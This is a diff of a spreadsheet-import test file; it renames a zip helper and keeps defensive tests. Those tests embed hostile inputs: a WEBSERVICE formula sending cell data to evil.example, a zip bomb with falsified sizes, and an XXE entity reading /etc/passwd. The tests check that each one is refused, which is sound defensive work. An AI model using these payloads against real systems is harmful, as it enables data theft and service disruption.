@@ -3,7 +3,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTestApp } from '#core/testing/test-app.ts';
 import type { Answer, TestApp } from '#core/testing/test-app.ts';
 import { upload } from '#core/testing/upload.ts';
-import { workbookParts, zipFile } from '#core/testing/zip-file.ts';
+import { buildZip } from '@wm/bytes/testing/build-zip';
+import { workbookParts } from '#core/testing/workbook-parts.ts';
 import { importFile } from '../support/import-rows.ts';
 
 const users = '/admin/v2/system/user';
@@ -61,7 +62,7 @@ describe('I09 formulas', () => {
   it('I09 are read by the result they were saved with, never worked out', async () => {
     const sheet = `<row r="1"><c r="A1" t="inlineStr"><is><t>用户名</t></is></c></row>
       <row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>from_formula</v></c></row>`;
-    const { data } = await send(zipFile(workbookParts(sheet)));
+    const { data } = await send(buildZip(workbookParts(sheet)));
     expect(data.preview[0].cells).toEqual(['from_formula']);
   });
 });
@@ -70,8 +71,8 @@ describe('F06 and F08 hostile files', () => {
   it('F06 a bomb is refused without its size being believed, and others are answered meanwhile', async () => {
     const head = '<row><c t="inlineStr"><is><t>用户名</t></is></c></row>';
     const row = `<row><c t="inlineStr"><is><t>${'0'.repeat(30_000)}</t></is></c></row>`;
-    const bomb = zipFile(
-      workbookParts(`${head}${row.repeat(4000)}`).map((part) => ({ ...part, claimedSize: 10 })),
+    const bomb = buildZip(
+      workbookParts(`${head}${row.repeat(4000)}`).map((part) => ({ ...part, declaredBytes: 10 })),
     );
     const [refused, other] = await Promise.all([send(bomb), app.admin.get(`${users}?limit=1`)]);
     expect(refused).toMatchObject({ code: 601, msg: '文件展开后过大，已停止读取' });
@@ -80,18 +81,18 @@ describe('F06 and F08 hostile files', () => {
 
   it('F06 a row at the far corner costs nothing', async () => {
     const corner = `<row r="1"><c r="A1" t="inlineStr"><is><t>用户名</t></is></c></row><row r="1048576"><c r="A1048576" t="inlineStr"><is><t>corner</t></is></c></row>`;
-    expect((await send(zipFile(workbookParts(corner)))).data.preview[0]).toMatchObject({
+    expect((await send(buildZip(workbookParts(corner)))).data.preview[0]).toMatchObject({
       row: 1_048_576,
       cells: ['corner'],
     });
     const far = '<row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>';
-    expect((await send(zipFile(workbookParts(far)))).msg).toBe('表格的列过多，请使用导入模板');
+    expect((await send(buildZip(workbookParts(far)))).msg).toBe('表格的列过多，请使用导入模板');
   });
 
   it('F08 a document type is refused, nothing is fetched', async () => {
     const head = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
     const sheet = '<row r="1"><c t="inlineStr"><is><t>&x;</t></is></c></row>';
-    const answer = await send(zipFile(workbookParts(sheet, { head })));
+    const answer = await send(buildZip(workbookParts(sheet, { head })));
     expect(answer.msg).toBe('文件已损坏，或不是表格文件');
     expect(answer.text).not.toContain('root:');
   });
